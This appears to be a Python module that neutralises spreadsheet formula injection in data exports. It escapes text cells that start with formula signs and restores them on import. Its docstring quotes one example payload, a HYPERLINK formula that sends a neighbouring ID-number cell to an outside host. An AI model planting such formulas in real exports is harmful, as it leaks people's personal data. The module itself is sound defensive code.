"""Text that a spreadsheet would run as a formula (OWASP "CSV Injection").

A member named ``=HYPERLINK("http://…/?d="&B2,"点击查看")`` must come out of an export
as that text, not as a live formula beside the 身份证号 column. Every text cell an
export or a marked file writes goes through :func:`neutral`: one that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'`` (and is
written as a string cell). The importer takes that ``'`` off again
(:func:`unneutral`), so an export imports back unchanged. Numbers stay number cells.
"""

from __future__ import annotations

from typing import Any

#: What makes Excel, LibreOffice or a web spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_SIGNS = frozenset(FORMULA_STARTS)


def neutral(value: Any) -> Any:
    """``value`` as a cell that no spreadsheet evaluates (text only; others as given).
    A text that already starts with ``'`` and a formula sign gets one more, so that
    :func:`unneutral` gives it back as it was."""
    if isinstance(value, str) and (
        value.startswith(FORMULA_STARTS) or (value[:1] == "'" and value[1:2] in _SIGNS)
    ):
        return "'" + value
    return value


def unneutral(value: Any) -> Any:
    """A cell as read back: the ``'`` that :func:`neutral` put before a formula-like
    text is taken off."""
    if type(value) is str and value[:1] == "'" and neutral(value[1:]) == value:
        return value[1:]
    return value
